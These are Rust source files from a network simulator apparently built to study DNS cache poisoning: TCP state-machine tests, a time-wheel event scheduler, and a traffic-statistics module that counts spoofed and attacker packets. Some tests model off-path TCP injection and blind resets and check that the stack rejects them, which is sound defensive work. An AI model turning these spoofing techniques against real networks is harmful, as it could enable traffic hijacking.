        assert!(matches!(r.events[0], SocketEvent::Connected { .. }));
        assert_eq!(client.state, TcpState::Established);
        let ack = &r.replies[0];
        let r = server.on_segment(ack);
        assert!(matches!(r.events[0], SocketEvent::Connected { .. }));
        assert_eq!(server.state, TcpState::Established);
        (client, server)
    }

    #[test]
    fn three_way_handshake_establishes_both_sides() {
        let (client, server) = handshake();
        assert_eq!(client.snd_nxt(), 1001);
        assert_eq!(client.rcv_nxt(), 9001);
        assert_eq!(server.rcv_nxt(), 1001);
    }

    #[test]
    fn data_is_segmented_to_mss_and_delivered_in_order() {
        let (mut client, mut server) = handshake();
        client.mss = 4;
        let segs = client.send(b"0123456789");
        assert_eq!(segs.len(), 3);
        assert_eq!(segs[0].payload, b"0123");
        assert!(!segs[0].flags.psh && segs[2].flags.psh, "PSH on the final segment only");
        let mut delivered = Vec::new();
        for s in &segs {
            for e in server.on_segment(s).events {
                if let SocketEvent::Data { payload, .. } = e {
                    delivered.extend_from_slice(&payload);
                }
            }
        }
        assert_eq!(delivered, b"0123456789");
        assert_eq!(server.bytes_received, 10);
        assert_eq!(client.bytes_sent, 10);
    }

    #[test]
    fn out_of_order_segment_dropped_with_duplicate_ack() {
        let (mut client, mut server) = handshake();
        client.mss = 4;
        let segs = client.send(b"01234567");
        // Deliver the second segment first: dropped, dup-ACKed.
        let r = server.on_segment(&segs[1]);
        assert!(r.events.is_empty());
        assert_eq!(r.replies[0].ack, 1001, "duplicate ACK re-asserts rcv_nxt");
        assert_eq!(server.bytes_received, 0);
    }

    #[test]
    fn wrong_seq_forgery_is_not_delivered() {
        // An off-path attacker that guessed the 4-tuple but not the sequence
        // number cannot inject stream data.
        let (_, mut server) = handshake();
        let mut forged = seg(b"evil payload");
        forged.seq = 0xdeadbeef;
        let r = server.on_segment(&forged);
        assert!(r.events.iter().all(|e| !matches!(e, SocketEvent::Data { .. })));
        assert_eq!(server.bytes_received, 0);
    }

    #[test]
    fn in_sequence_rst_tears_the_connection_down() {
        let (mut client, _) = handshake();
        let mut rst = seg(b"");
        rst.src = B;
        rst.dst = A;
        rst.src_port = 53;
        rst.dst_port = 40000;
        rst.seq = client.rcv_nxt();
        rst.flags = TcpFlags { rst: true, ..Default::default() };
        let r = client.on_segment(&rst);
        assert!(r.done);
        assert!(matches!(r.events[0], SocketEvent::Reset { .. }));
        assert_eq!(client.state, TcpState::Closed);
    }

    #[test]
    fn blind_rst_with_wrong_seq_is_ignored() {
        // The resolver's upstream 4-tuple is public (fixed client port, NS
        // port 53, known addresses): an off-path reset must still guess the
        // 32-bit sequence number or it does nothing.
        let (mut client, _) = handshake();
        let mut rst = seg(b"");
        rst.src = B;
        rst.dst = A;
        rst.src_port = 53;
        rst.dst_port = 40000;
        rst.seq = client.rcv_nxt().wrapping_add(0x1337);
        rst.flags = TcpFlags { rst: true, ..Default::default() };
        let r = client.on_segment(&rst);
        assert!(!r.done);
        assert!(r.events.is_empty());
        assert_eq!(client.state, TcpState::Established, "the blind reset is dropped");
    }

    #[test]
    fn orderly_fin_teardown_both_directions() {
        let (mut client, mut server) = handshake();
        // Client closes; server ACKs and closes too.
        let fin = client.close().unwrap();
        assert_eq!(client.state, TcpState::FinWait1);
        let r = server.on_segment(&fin);
        assert_eq!(server.state, TcpState::CloseWait);
        assert!(r.events.iter().any(|e| matches!(e, SocketEvent::PeerClosed { .. })));
        let ack = r.replies.last().unwrap().clone();
        client.on_segment(&ack);
        assert_eq!(client.state, TcpState::FinWait2);
        let server_fin = server.close().unwrap();
        assert_eq!(server.state, TcpState::LastAck);
        let r = client.on_segment(&server_fin);
        assert!(r.done);
        assert_eq!(client.state, TcpState::Closed);
        let last_ack = r.replies.last().unwrap().clone();
        let r = server.on_segment(&last_ack);
        assert!(r.done);
        assert_eq!(server.state, TcpState::Closed);
    }

    #[test]
    fn payload_queued_during_handshake_flushes_with_the_ack() {
        let client_ep = Endpoint::new(A, 40000);
        let server_ep = Endpoint::new(B, 53);
        let (mut client, syn) = TcpConnection::client(client_ep, server_ep, 5, 1460);
        assert!(client.send(b"early").is_empty(), "queued until established");
        let (mut server, syn_ack) = TcpConnection::server(server_ep, client_ep, 77, 1460, &syn);
        let r = client.on_segment(&syn_ack);
        // The handshake ACK rides on the data segment.
        assert_eq!(r.replies.len(), 1);
        assert_eq!(r.replies[0].payload, b"early");
        let r = server.on_segment(&r.replies[0]);
        assert!(r.events.iter().any(|e| matches!(e, SocketEvent::Data { payload, .. } if payload == b"early")));
    }

    #[test]
    fn rst_reply_forms() {
        let mut s = seg(b"xy");
        s.flags = TcpFlags::syn();
        s.ack = 0;
        let rst = rst_reply(&s).unwrap();
        assert!(rst.flags.rst && rst.flags.ack);
        assert_eq!(rst.ack, s.seq.wrapping_add(3), "SYN + 2 payload bytes");
        let mut acked = seg(b"");
        acked.flags = TcpFlags::ack();
        let rst = rst_reply(&acked).unwrap();
        assert!(rst.flags.rst && !rst.flags.ack);
        assert_eq!(rst.seq, acked.ack);
        let mut r = seg(b"");
        r.flags = TcpFlags { rst: true, ..Default::default() };
        assert!(rst_reply(&r).is_none(), "never reset a reset");
    }
}
