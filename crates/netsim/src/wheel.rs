//! A hierarchical time wheel for the discrete-event scheduler.
//!
//! The engine used to keep every future event in one
//! `BinaryHeap<Reverse<Event>>`: `O(log n)` per push/pop with poor cache
//! behaviour once a million stub clients each keep a timer armed. The
//! [`TimeWheel`] replaces it with the classic hashed hierarchical wheel of
//! Varghese & Lauck: six levels of 64 slots, each level covering a window
//! 64× wider than the one below, plus an overflow heap for events beyond
//! the ~3.2-day horizon. Insertion is `O(1)`; popping scans per-level
//! occupancy bitmaps (one `u64` per level) to jump straight to the next
//! non-empty slot.
//!
//! **Ordering contract:** events are keyed by `(SimTime, seq)` and pop in
//! exactly the order the old binary heap produced — strictly increasing
//! `(time, seq)`. The engine's determinism contract (same seed ⇒ same packet
//! interleaving) rides on this; `tests/proptests.rs` checks the equivalence
//! on random event batches.
//!
//! Mechanics: slot residency only depends on the event's absolute tick
//! (`time >> GRANULARITY_BITS`), so several events in one level-0 slot may
//! carry different nanosecond timestamps. Draining a slot therefore moves
//! its events into a small "ready" heap that yields them in exact
//! `(time, seq)` order; higher-level slots are cascaded down one level at a
//! time as the clock enters their window.

use crate::time::SimTime;
use std::cmp::Reverse;
use std::collections::BinaryHeap;

/// log2 of the level-0 tick width in nanoseconds (4096 ns ≈ 4 µs).
const GRANULARITY_BITS: u32 = 12;
/// log2 of the number of slots per level.
const LEVEL_BITS: u32 = 6;
/// Slots per level.
const SLOTS: usize = 1 << LEVEL_BITS;
/// Slot-index mask.
const SLOT_MASK: u64 = (SLOTS as u64) - 1;
/// Number of levels. Level `l` spans `64^(l+1)` ticks.
pub const LEVELS: usize = 6;
/// Ticks covered by the whole wheel; events further out go to the overflow
/// heap (2^36 ticks × 4096 ns ≈ 3.2 days of simulated time).
const HORIZON_TICKS: u64 = 1 << (LEVEL_BITS * LEVELS as u32);

/// One scheduled event: the full-resolution key plus its payload.
struct Entry<T> {
    time: SimTime,
    seq: u64,
    value: T,
}

/// Orders entries by `(time, seq)` only — the payload never participates.
struct Key<T>(Entry<T>);

impl<T> PartialEq for Key<T> {
    fn eq(&self, other: &Self) -> bool {
        self.0.time == other.0.time && self.0.seq == other.0.seq
    }
}
impl<T> Eq for Key<T> {}
impl<T> PartialOrd for Key<T> {
    fn partial_cmp(&self, other: &Self) -> Option<std::cmp::Ordering> {
        Some(self.cmp(other))
    }
}
impl<T> Ord for Key<T> {
    fn cmp(&self, other: &Self) -> std::cmp::Ordering {
        (self.0.time, self.0.seq).cmp(&(other.0.time, other.0.seq))
    }
}

/// A hierarchical time wheel holding `(SimTime, seq)`-keyed events.
///
/// See the [module documentation](self) for the design; [`TimeWheel::pop`]
/// yields events in strictly increasing `(time, seq)` order.
pub struct TimeWheel<T> {
    /// `slots[l][s]` holds events whose tick has residue `s` at level `l`.
    slots: Vec<Vec<Vec<Entry<T>>>>,
    /// One occupancy bit per slot, one word per level.
    occupied: [u64; LEVELS],
    /// Events within the current level-0 tick (or earlier), exactly ordered.
    ready: BinaryHeap<Reverse<Key<T>>>,
    /// Events beyond the wheel horizon.
    overflow: BinaryHeap<Reverse<Key<T>>>,
    /// The current tick: no stored event has `tick(time) < now_tick`.
    now_tick: u64,
    /// Total stored events.
    len: usize,
    /// Recycled slot vectors, so steady-state operation does not allocate.
    spare: Vec<Vec<Entry<T>>>,
}

fn tick_of(time: SimTime) -> u64 {
    time.as_nanos() >> GRANULARITY_BITS
}

impl<T> Default for TimeWheel<T> {
    fn default() -> Self {
        TimeWheel::new()
    }
}

impl<T> TimeWheel<T> {
    /// Creates an empty wheel with the clock at zero.
    pub fn new() -> Self {
        TimeWheel {
            slots: (0..LEVELS).map(|_| (0..SLOTS).map(|_| Vec::new()).collect()).collect(),
            occupied: [0; LEVELS],
            ready: BinaryHeap::new(),
            overflow: BinaryHeap::new(),
            now_tick: 0,
            len: 0,
            spare: Vec::new(),
        }
    }

    /// Number of stored events.
    pub fn len(&self) -> usize {
        self.len
    }

    /// Whether the wheel holds no events.
    pub fn is_empty(&self) -> bool {
        self.len == 0
    }

    /// Number of occupied slots per level (popcount of each occupancy word).
    /// A cheap structural gauge for telemetry: how spread out the pending
    /// events are across the hierarchy.
    pub fn level_occupancy(&self) -> [u32; LEVELS] {
        let mut out = [0u32; LEVELS];
        for (o, word) in out.iter_mut().zip(self.occupied.iter()) {
            *o = word.count_ones();
        }
        out
    }

    /// Schedules an event. `time` must not precede the time of the last
    /// popped event (the engine never schedules into the past); `seq` must be
    /// unique and increase with insertion order so that simultaneous events
    /// pop in insertion order.
    pub fn push(&mut self, time: SimTime, seq: u64, value: T) {
        self.len += 1;
        let tick = tick_of(time);
        let entry = Entry { time, seq, value };
        if tick <= self.now_tick {
            self.ready.push(Reverse(Key(entry)));
        } else {
            self.place(tick, entry);
        }
    }

    /// Inserts an entry with `tick > self.now_tick` into the proper slot.
    fn place(&mut self, tick: u64, entry: Entry<T>) {
        let delta = tick - self.now_tick;
        if delta >= HORIZON_TICKS {
            self.overflow.push(Reverse(Key(entry)));
            return;
        }
        // The smallest level whose span covers the delta. Level l spans
        // 64^(l+1) ticks and indexes by bits [6l, 6l+6) of the absolute tick.
        let mut level = 0;
        while delta >> (LEVEL_BITS * (level as u32 + 1)) != 0 {
            level += 1;
        }
        let slot = ((tick >> (LEVEL_BITS * level as u32)) & SLOT_MASK) as usize;
        self.slots[level][slot].push(entry);
        self.occupied[level] |= 1 << slot;
    }

    /// The `(time, seq)` of the next event without removing it, or `None`.
    pub fn peek_key(&mut self) -> Option<(SimTime, u64)> {
        self.settle();
        self.ready.peek().map(|Reverse(Key(e))| (e.time, e.seq))
    }

    /// The time of the next event without removing it, or `None`.
    pub fn peek_time(&mut self) -> Option<SimTime> {
        self.peek_key().map(|(t, _)| t)
    }

    /// Removes and returns the earliest event by `(time, seq)`.
    pub fn pop(&mut self) -> Option<(SimTime, u64, T)> {
        self.settle();
        let Reverse(Key(e)) = self.ready.pop()?;
        self.len -= 1;
        Some((e.time, e.seq, e.value))
    }

    /// Advances the wheel until the globally earliest event sits in `ready`
    /// (or the wheel is empty). This is where cascading happens.
    fn settle(&mut self) {
        loop {
            if self.ready.is_empty() {
                // Pull overflow events that have come within the horizon. If
                // the wheel proper is empty, jump the clock straight to the
                // overflow head so it lands in `ready`.
                while let Some(Reverse(Key(e))) = self.overflow.peek() {
                    let tick = tick_of(e.time);
                    if self.occupied.iter().all(|&w| w == 0) {
                        self.now_tick = tick;
                    }
                    if tick - self.now_tick < HORIZON_TICKS {
                        let Some(Reverse(Key(e))) = self.overflow.pop() else { unreachable!() };
                        let tick = tick_of(e.time);
                        if tick <= self.now_tick {
                            self.ready.push(Reverse(Key(e)));
                        } else {
                            self.place(tick, e);
                        }
                    } else {
                        break;
                    }
                }
            }
            if !self.ready.is_empty() {
                return;
            }
            // Find the occupied slot with the smallest window-base tick
            // across all levels. Every event in a slot lies within one level
            // span of `now_tick` (enforced at placement and preserved as the
            // clock only moves forward), so a slot's events all belong to the
            // *next* occurrence of its residue — `d` slots ahead of the
            // current position, with `d = 64` meaning the same residue one
            // wrap later. The minimal base across levels is therefore a tight
            // lower bound: cascading that slot either fills `ready` (level 0)
            // or redistributes one level down.
            let mut best: Option<(u64, usize)> = None;
            for level in 0..LEVELS {
                let word = self.occupied[level];
                if word == 0 {
                    continue;
                }
                let shift = LEVEL_BITS * level as u32;
                let cur = ((self.now_tick >> shift) & SLOT_MASK) as u32;
                // Rotate so bit 0 corresponds to the slot one position ahead
                // of `cur`; the first set bit is then `d - 1` for the nearest
                // upcoming slot, where d ∈ [1, 64] counts slots ahead.
                let rotated = word.rotate_right((cur + 1) & (SLOTS as u32 - 1));
                let d = rotated.trailing_zeros() as u64 + 1;
                let pos_base = (self.now_tick >> shift) << shift; // window base of current position
                let step = 1u64 << shift; // ticks per slot at this level
                let base = pos_base + d * step;
                if best.is_none_or(|(b, _)| base < b) {
                    best = Some((base, level));
                }
            }
            let Some((base, _)) = best else {
                return; // wheel empty (overflow handled above)
            };
            self.now_tick = base;
            // Cascade every level's slot that now contains `now_tick`,
            // skipping slots whose events belong to the next wrap-around of
            // that level; the ready heap re-establishes exact (time, seq)
            // order for events that land at the current tick.
            for l in (0..LEVELS).rev() {
                let shift = LEVEL_BITS * l as u32;
                let s = ((self.now_tick >> shift) & SLOT_MASK) as usize;
                if self.occupied[l] & (1 << s) == 0 {
                    continue;
                }
                // All events in one slot share a window; checking the first
                // one's epoch tells whether this occurrence is ours.
                let first_tick = tick_of(self.slots[l][s][0].time);
                if first_tick >> (shift + LEVEL_BITS) != self.now_tick >> (shift + LEVEL_BITS) {
                    continue;
                }
                let mut drained = std::mem::replace(&mut self.slots[l][s], self.spare.pop().unwrap_or_default());
                self.occupied[l] &= !(1 << s);
                for entry in drained.drain(..) {
                    let tick = tick_of(entry.time);
                    if tick <= self.now_tick {
                        self.ready.push(Reverse(Key(entry)));
                    } else {
                        self.place(tick, entry);
                    }
                }
                self.spare.push(std::mem::replace(&mut self.slots[l][s], drained));
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::{Rng, SeedableRng};
    use rand_chacha::ChaCha20Rng;

    fn drain(w: &mut TimeWheel<usize>) -> Vec<(u64, u64, usize)> {
        let mut out = Vec::new();
        while let Some((t, s, v)) = w.pop() {
            out.push((t.as_nanos(), s, v));
        }
        out
    }

    #[test]
    fn pops_in_time_then_seq_order() {
        let mut w = TimeWheel::new();
        w.push(SimTime::from_nanos(50), 0, 0);
        w.push(SimTime::from_nanos(10), 1, 1);
        w.push(SimTime::from_nanos(10), 2, 2);
        w.push(SimTime::from_nanos(5), 3, 3);
        let order: Vec<usize> = drain(&mut w).into_iter().map(|(_, _, v)| v).collect();
        assert_eq!(order, vec![3, 1, 2, 0]);
    }

    #[test]
    fn same_tick_different_nanos_ordered_exactly() {
        // Both times land in the same 4096 ns level-0 tick; the ready heap
        // must still order them by nanosecond.
        let mut w = TimeWheel::new();
        w.push(SimTime::from_nanos(4000), 0, 0);
        w.push(SimTime::from_nanos(3999), 1, 1);
        let order: Vec<usize> = drain(&mut w).into_iter().map(|(_, _, v)| v).collect();
        assert_eq!(order, vec![1, 0]);
    }

    #[test]
    fn cross_level_ordering_is_exact() {
        let mut w = TimeWheel::new();
        // Deep level-2 event first (far future), then a level-0 event.
        let far = 300 * 4096 * 64; // well into level 2 territory
        w.push(SimTime::from_nanos(far), 0, 0);
        w.push(SimTime::from_nanos(100), 1, 1);
        assert_eq!(w.pop().unwrap().2, 1);
        assert_eq!(w.pop().unwrap().2, 0);
        assert!(w.pop().is_none());
    }

    #[test]
    fn interleaved_push_pop_stays_sorted() {
        let mut w = TimeWheel::new();
        let mut rng = ChaCha20Rng::seed_from_u64(7);
        let mut seq = 0u64;
        let mut last = (0u64, 0u64);
        let mut popped = 0usize;
        let mut pushed = 0usize;
        for _ in 0..2000 {
            if rng.gen_bool(0.6) || w.is_empty() {
                // never schedule into the past relative to the last pop
                let bits = rng.gen_range(1u32..28);
                let t = last.0 + rng.gen_range(0u64..1u64 << bits);
                w.push(SimTime::from_nanos(t), seq, 0usize);
                seq += 1;
                pushed += 1;
            } else {
                let (t, s, _) = w.pop().unwrap();
                popped += 1;
                assert!((t.as_nanos(), s) > last || popped == 1, "order violated: {:?} after {:?}", (t, s), last);
                last = (t.as_nanos(), s);
            }
        }
        popped += drain(&mut w).len();
        assert_eq!(popped, pushed);
    }

    #[test]
    fn overflow_events_beyond_horizon_still_ordered() {
        let mut w = TimeWheel::new();
        let horizon_ns = (1u64 << 36) * 4096;
        w.push(SimTime::from_nanos(horizon_ns * 2), 0, 0);
        w.push(SimTime::from_nanos(horizon_ns + 5), 1, 1);
        w.push(SimTime::from_nanos(42), 2, 2);
        let order: Vec<usize> = drain(&mut w).into_iter().map(|(_, _, v)| v).collect();
        assert_eq!(order, vec![2, 1, 0]);
    }

    #[test]
    fn peek_matches_pop() {
        let mut w = TimeWheel::new();
        for (i, t) in [900u64, 100, 5000, 77].into_iter().enumerate() {
            w.push(SimTime::from_nanos(t), i as u64, i);
        }
        while let Some(t) = w.peek_time() {
            let (pt, _, _) = w.pop().unwrap();
            assert_eq!(t, pt);
        }
    }

    #[test]
    fn level_occupancy_counts_slots() {
        let mut w = TimeWheel::new();
        assert_eq!(w.level_occupancy(), [0; LEVELS]);
        w.push(SimTime::from_nanos(5000), 0, 0); // level 0 territory
        w.push(SimTime::from_nanos(300 * 4096 * 64), 1, 1); // level 2 territory
        let occ = w.level_occupancy();
        assert_eq!(occ.iter().sum::<u32>(), 2);
        drain(&mut w);
        assert_eq!(w.level_occupancy(), [0; LEVELS]);
    }

    #[test]
    fn len_tracks_contents() {
        let mut w = TimeWheel::new();
        assert!(w.is_empty());
        w.push(SimTime::from_nanos(1), 0, 0);
        w.push(SimTime::from_nanos(1 << 30), 1, 1);
        assert_eq!(w.len(), 2);
        w.pop();
        assert_eq!(w.len(), 1);
        w.pop();
        assert!(w.is_empty());
    }

    #[test]
    fn matches_binary_heap_on_random_batches() {
        // Deterministic mirror of the proptest in tests/proptests.rs.
        let mut rng = ChaCha20Rng::seed_from_u64(99);
        for _ in 0..50 {
            let n = rng.gen_range(1..200);
            let mut wheel = TimeWheel::new();
            let mut heap = BinaryHeap::new();
            for seq in 0..n {
                let bits = rng.gen_range(1u32..40);
                let t = rng.gen_range(0u64..1u64 << bits);
                wheel.push(SimTime::from_nanos(t), seq, seq);
                heap.push(Reverse((SimTime::from_nanos(t), seq)));
            }
            let mut expect = Vec::new();
            while let Some(Reverse(k)) = heap.pop() {
                expect.push(k);
            }
            let got: Vec<(SimTime, u64)> = std::iter::from_fn(|| wheel.pop().map(|(t, s, _)| (t, s))).collect();
            assert_eq!(got, expect);
        }
    }
}
