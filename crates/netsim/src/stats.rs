//! Per-node traffic accounting.
//!
//! Table 6 of the paper compares the three poisoning methodologies by the
//! number of packets and bytes an attack requires ("Queries needed", "Total
//! traffic"). Every packet the simulator delivers or drops is counted here so
//! the comparative-analysis harness can report those columns directly from
//! the simulation rather than from hand calculations.

use crate::ipv4::Protocol;
use serde::{Deserialize, Serialize};

/// Counters kept per simulated node.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct TrafficStats {
    /// Packets handed to the network by this node.
    pub packets_sent: u64,
    /// Bytes handed to the network by this node.
    pub bytes_sent: u64,
    /// Packets delivered to this node.
    pub packets_received: u64,
    /// Bytes delivered to this node.
    pub bytes_received: u64,
    /// UDP datagrams sent.
    pub udp_sent: u64,
    /// UDP datagrams received.
    pub udp_received: u64,
    /// TCP segments sent.
    pub tcp_sent: u64,
    /// TCP segments received.
    pub tcp_received: u64,
    /// ICMP messages sent.
    pub icmp_sent: u64,
    /// ICMP messages received.
    pub icmp_received: u64,
    /// Packets this node attempted to send with a spoofed source address
    /// that were dropped by egress filtering.
    pub spoofed_filtered: u64,
    /// Packets dropped in transit (link loss, no route, MTU with DF).
    pub dropped_in_transit: u64,
}

impl TrafficStats {
    /// Records a sent packet of the given protocol and wire length.
    pub fn record_sent(&mut self, protocol: Protocol, wire_len: usize) {
        self.packets_sent += 1;
        self.bytes_sent += wire_len as u64;
        match protocol {
            Protocol::Udp => self.udp_sent += 1,
            Protocol::Tcp => self.tcp_sent += 1,
            Protocol::Icmp => self.icmp_sent += 1,
            _ => {}
        }
    }

    /// Records a received packet of the given protocol and wire length.
    pub fn record_received(&mut self, protocol: Protocol, wire_len: usize) {
        self.packets_received += 1;
        self.bytes_received += wire_len as u64;
        match protocol {
            Protocol::Udp => self.udp_received += 1,
            Protocol::Tcp => self.tcp_received += 1,
            Protocol::Icmp => self.icmp_received += 1,
            _ => {}
        }
    }

    /// Adds another node's counters into this one (used to aggregate the
    /// attacker's total traffic over repeated attack iterations).
    pub fn merge(&mut self, other: &TrafficStats) {
        self.packets_sent += other.packets_sent;
        self.bytes_sent += other.bytes_sent;
        self.packets_received += other.packets_received;
        self.bytes_received += other.bytes_received;
        self.udp_sent += other.udp_sent;
        self.udp_received += other.udp_received;
        self.tcp_sent += other.tcp_sent;
        self.tcp_received += other.tcp_received;
        self.icmp_sent += other.icmp_sent;
        self.icmp_received += other.icmp_received;
        self.spoofed_filtered += other.spoofed_filtered;
        self.dropped_in_transit += other.dropped_in_transit;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn records_by_protocol() {
        let mut s = TrafficStats::default();
        s.record_sent(Protocol::Udp, 100);
        s.record_sent(Protocol::Icmp, 60);
        s.record_received(Protocol::Udp, 500);
        assert_eq!(s.packets_sent, 2);
        assert_eq!(s.bytes_sent, 160);
        assert_eq!(s.udp_sent, 1);
        assert_eq!(s.icmp_sent, 1);
        assert_eq!(s.udp_received, 1);
        assert_eq!(s.packets_received, 1);
        assert_eq!(s.bytes_received, 500);
    }

    #[test]
    fn merge_accumulates() {
        let mut a = TrafficStats::default();
        a.record_sent(Protocol::Udp, 10);
        let mut b = TrafficStats::default();
        b.record_sent(Protocol::Udp, 20);
        b.spoofed_filtered = 3;
        a.merge(&b);
        assert_eq!(a.packets_sent, 2);
        assert_eq!(a.bytes_sent, 30);
        assert_eq!(a.spoofed_filtered, 3);
    }

    #[test]
    fn tcp_counted_in_its_own_column() {
        let mut s = TrafficStats::default();
        s.record_sent(Protocol::Tcp, 40);
        s.record_received(Protocol::Tcp, 52);
        assert_eq!(s.packets_sent, 1);
        assert_eq!(s.tcp_sent, 1);
        assert_eq!(s.tcp_received, 1);
        assert_eq!(s.udp_sent, 0);
        assert_eq!(s.icmp_sent, 0);
    }

    #[test]
    fn other_protocols_counted_only_in_totals() {
        let mut s = TrafficStats::default();
        s.record_sent(Protocol::Other(89), 40);
        assert_eq!(s.packets_sent, 1);
        assert_eq!(s.udp_sent, 0);
        assert_eq!(s.tcp_sent, 0);
        assert_eq!(s.icmp_sent, 0);
    }
}
