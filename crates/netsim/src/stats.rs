//! Per-node traffic accounting.
//!
//! Table 6 of the paper compares the three poisoning methodologies by the
//! number of packets and bytes an attack requires ("Queries needed", "Total
//! traffic"). Every packet the simulator delivers or drops is counted here so
//! the comparative-analysis harness can report those columns directly from
//! the simulation rather than from hand calculations.

use crate::ipv4::Protocol;
use crate::transport::FlowStats;
use serde::{Deserialize, Serialize};
use std::fmt::Write as _;

/// Counters kept per simulated node.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct TrafficStats {
    /// Packets handed to the network by this node.
    pub packets_sent: u64,
    /// Bytes handed to the network by this node.
    pub bytes_sent: u64,
    /// Packets delivered to this node.
    pub packets_received: u64,
    /// Bytes delivered to this node.
    pub bytes_received: u64,
    /// UDP datagrams sent.
    pub udp_sent: u64,
    /// UDP datagrams received.
    pub udp_received: u64,
    /// TCP segments sent.
    pub tcp_sent: u64,
    /// TCP segments received.
    pub tcp_received: u64,
    /// ICMP messages sent.
    pub icmp_sent: u64,
    /// ICMP messages received.
    pub icmp_received: u64,
    /// Packets this node attempted to send with a spoofed source address
    /// that were dropped by egress filtering.
    pub spoofed_filtered: u64,
    /// Packets dropped in transit (link loss, no route, MTU with DF).
    pub dropped_in_transit: u64,
    /// Packets this node sent that reached their destination
    /// (`TraceVerdict::Delivered`).
    pub delivered: u64,
    /// Packets this node sent that were dropped because no node owns the
    /// destination address (`TraceVerdict::NoRoute`).
    pub no_route: u64,
    /// Packets this node sent that were dropped by link loss
    /// (`TraceVerdict::LinkLoss`).
    pub link_loss: u64,
    /// Packets this node sent that exceeded the link MTU with DF set
    /// (`TraceVerdict::MtuExceeded`).
    pub mtu_exceeded: u64,
}

impl TrafficStats {
    /// Records a sent packet of the given protocol and wire length.
    pub fn record_sent(&mut self, protocol: Protocol, wire_len: usize) {
        self.packets_sent += 1;
        self.bytes_sent += wire_len as u64;
        match protocol {
            Protocol::Udp => self.udp_sent += 1,
            Protocol::Tcp => self.tcp_sent += 1,
            Protocol::Icmp => self.icmp_sent += 1,
            _ => {}
        }
    }

    /// Records a received packet of the given protocol and wire length.
    pub fn record_received(&mut self, protocol: Protocol, wire_len: usize) {
        self.packets_received += 1;
        self.bytes_received += wire_len as u64;
        match protocol {
            Protocol::Udp => self.udp_received += 1,
            Protocol::Tcp => self.tcp_received += 1,
            Protocol::Icmp => self.icmp_received += 1,
            _ => {}
        }
    }

    /// Renders the counters as a one-node traffic summary, with one line per
    /// transport flow appended — the trace-level view of "which connections
    /// did this host actually run". Callers collect the flows from the
    /// node's sockets (e.g. `Resolver::tcp_flows`, a CA validator's
    /// HTTP-01 fetch socket); pass `&[]` for hosts without connections.
    ///
    /// ```
    /// use netsim::prelude::*;
    /// let mut stats = TrafficStats::default();
    /// stats.record_sent(netsim::ipv4::Protocol::Tcp, 60);
    /// let flow = FlowStats {
    ///     protocol: netsim::ipv4::Protocol::Tcp,
    ///     local: Endpoint::new("30.0.0.1".parse().unwrap(), 49152),
    ///     peer: Endpoint::new("123.0.0.53".parse().unwrap(), 53),
    ///     state: "established",
    ///     bytes_sent: 31,
    ///     bytes_received: 158,
    /// };
    /// let text = stats.render("resolver", &[flow]);
    /// assert!(text.contains("TCP 30.0.0.1:49152 -> 123.0.0.53:53"));
    /// assert!(text.contains("established"));
    /// ```
    pub fn render(&self, name: &str, flows: &[FlowStats]) -> String {
        let mut out = String::new();
        let _ = writeln!(
            out,
            "{name}: sent {} pkt / {} B (udp {}, tcp {}, icmp {}), received {} pkt / {} B (udp {}, tcp {}, icmp {})",
            self.packets_sent,
            self.bytes_sent,
            self.udp_sent,
            self.tcp_sent,
            self.icmp_sent,
            self.packets_received,
            self.bytes_received,
            self.udp_received,
            self.tcp_received,
            self.icmp_received,
        );
        if self.spoofed_filtered > 0 || self.dropped_in_transit > 0 {
            let _ = writeln!(
                out,
                "  dropped: {} spoofed (egress-filtered), {} in transit",
                self.spoofed_filtered, self.dropped_in_transit
            );
        }
        if self.delivered + self.no_route + self.link_loss + self.spoofed_filtered + self.mtu_exceeded > 0 {
            let _ = writeln!(
                out,
                "  verdicts: delivered {}, no-route {}, link-loss {}, egress-filtered {}, mtu-exceeded {}",
                self.delivered, self.no_route, self.link_loss, self.spoofed_filtered, self.mtu_exceeded
            );
        }
        for f in flows {
            let _ = writeln!(
                out,
                "  {} {} -> {} [{}] tx {} B / rx {} B",
                f.protocol, f.local, f.peer, f.state, f.bytes_sent, f.bytes_received
            );
        }
        out
    }

    /// Adds another node's counters into this one (used to aggregate the
    /// attacker's total traffic over repeated attack iterations).
    pub fn merge(&mut self, other: &TrafficStats) {
        self.packets_sent += other.packets_sent;
        self.bytes_sent += other.bytes_sent;
        self.packets_received += other.packets_received;
        self.bytes_received += other.bytes_received;
        self.udp_sent += other.udp_sent;
        self.udp_received += other.udp_received;
        self.tcp_sent += other.tcp_sent;
        self.tcp_received += other.tcp_received;
        self.icmp_sent += other.icmp_sent;
        self.icmp_received += other.icmp_received;
        self.spoofed_filtered += other.spoofed_filtered;
        self.dropped_in_transit += other.dropped_in_transit;
        self.delivered += other.delivered;
        self.no_route += other.no_route;
        self.link_loss += other.link_loss;
        self.mtu_exceeded += other.mtu_exceeded;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn records_by_protocol() {
        let mut s = TrafficStats::default();
        s.record_sent(Protocol::Udp, 100);
        s.record_sent(Protocol::Icmp, 60);
        s.record_received(Protocol::Udp, 500);
        assert_eq!(s.packets_sent, 2);
        assert_eq!(s.bytes_sent, 160);
        assert_eq!(s.udp_sent, 1);
        assert_eq!(s.icmp_sent, 1);
        assert_eq!(s.udp_received, 1);
        assert_eq!(s.packets_received, 1);
        assert_eq!(s.bytes_received, 500);
    }

    #[test]
    fn merge_accumulates() {
        let mut a = TrafficStats::default();
        a.record_sent(Protocol::Udp, 10);
        let mut b = TrafficStats::default();
        b.record_sent(Protocol::Udp, 20);
        b.spoofed_filtered = 3;
        a.merge(&b);
        assert_eq!(a.packets_sent, 2);
        assert_eq!(a.bytes_sent, 30);
        assert_eq!(a.spoofed_filtered, 3);
    }

    #[test]
    fn tcp_counted_in_its_own_column() {
        let mut s = TrafficStats::default();
        s.record_sent(Protocol::Tcp, 40);
        s.record_received(Protocol::Tcp, 52);
        assert_eq!(s.packets_sent, 1);
        assert_eq!(s.tcp_sent, 1);
        assert_eq!(s.tcp_received, 1);
        assert_eq!(s.udp_sent, 0);
        assert_eq!(s.icmp_sent, 0);
    }

    #[test]
    fn render_includes_totals_and_per_flow_lines() {
        use crate::transport::Endpoint;
        let mut s = TrafficStats::default();
        s.record_sent(Protocol::Tcp, 60);
        s.record_received(Protocol::Tcp, 52);
        s.spoofed_filtered = 2;
